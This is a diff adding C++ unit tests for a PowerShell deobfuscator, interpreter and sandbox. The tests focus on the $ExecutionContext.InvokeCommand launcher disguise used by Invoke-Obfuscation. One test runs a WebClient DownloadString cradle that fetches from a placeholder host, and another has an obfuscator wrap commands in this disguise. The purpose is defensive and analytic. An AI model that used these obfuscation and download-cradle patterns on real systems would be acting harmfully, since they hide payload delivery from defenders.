@@ -1,0 +1,80 @@
+// Tests for the $ExecutionContext.InvokeCommand launcher disguise — one of
+// the best-known Invoke-Obfuscation iex replacements.
+
+#include <gtest/gtest.h>
+
+#include "core/deobfuscator.h"
+#include "obfuscator/obfuscator.h"
+#include "pslang/alias_table.h"
+#include "psinterp/interpreter.h"
+#include "sandbox/sandbox.h"
+
+namespace ideobf {
+namespace {
+
+bool contains_ci(std::string_view haystack, std::string_view needle) {
+  return ps::to_lower(haystack).find(ps::to_lower(needle)) != std::string::npos;
+}
+
+TEST(ExecContext, InvokeScriptExecutes) {
+  ps::Interpreter interp;
+  EXPECT_EQ(interp
+                .evaluate_script("$ExecutionContext.InvokeCommand.InvokeScript("
+                                 "\"'ec'+'-ok'\")")
+                .to_display_string(),
+            "ec-ok");
+}
+
+TEST(ExecContext, NewScriptBlock) {
+  ps::Interpreter interp;
+  EXPECT_EQ(interp
+                .evaluate_script("$sb = $ExecutionContext.InvokeCommand."
+                                 "NewScriptBlock('21 * 2'); $sb.Invoke()")
+                .get_int(),
+            42);
+}
+
+TEST(ExecContext, ExpandString) {
+  ps::Interpreter interp;
+  EXPECT_EQ(interp
+                .evaluate_script("$v = 'z'; $ExecutionContext.InvokeCommand."
+                                 "ExpandString('val=$v')")
+                .to_display_string(),
+            "val=z");
+}
+
+TEST(ExecContext, RecoveryUnwindsTheDisguise) {
+  InvokeDeobfuscator deobf;
+  const std::string out = deobf.deobfuscate(
+      "$ExecutionContext.InvokeCommand.InvokeScript(('exec-'+'marker'))");
+  EXPECT_TRUE(contains_ci(out, "exec-marker")) << out;
+}
+
+TEST(ExecContext, BehaviorFlowsThrough) {
+  Sandbox sandbox;
+  const BehaviorProfile p = sandbox.run(
+      "$ExecutionContext.InvokeCommand.InvokeScript(\"(New-Object "
+      "Net.WebClient).DownloadString('http://ec.test/x')\")");
+  EXPECT_TRUE(p.network.count("dns:ec.test")) << p.error;
+}
+
+TEST(ExecContext, ObfuscatorEmitsItAndRoundTrips) {
+  // The wrap_layer style pool includes the ExecutionContext launcher;
+  // every emitted form must round-trip.
+  Obfuscator obf(41);
+  InvokeDeobfuscator deobf;
+  Sandbox sandbox;
+  int seen_launcher = 0;
+  for (int i = 0; i < 30; ++i) {
+    const std::string wrapped = obf.wrap_layer(
+        "Write-Output 'wrapped-ec'", Technique::Concat,
+        Obfuscator::LayerStyle::IexArgument);
+    if (contains_ci(wrapped, "ExecutionContext")) ++seen_launcher;
+    const BehaviorProfile p = sandbox.run(wrapped);
+    EXPECT_TRUE(p.executed_ok) << wrapped << "\n" << p.error;
+  }
+  EXPECT_GE(seen_launcher, 1);
+}
+
+}  // namespace
+}  // namespace ideobf
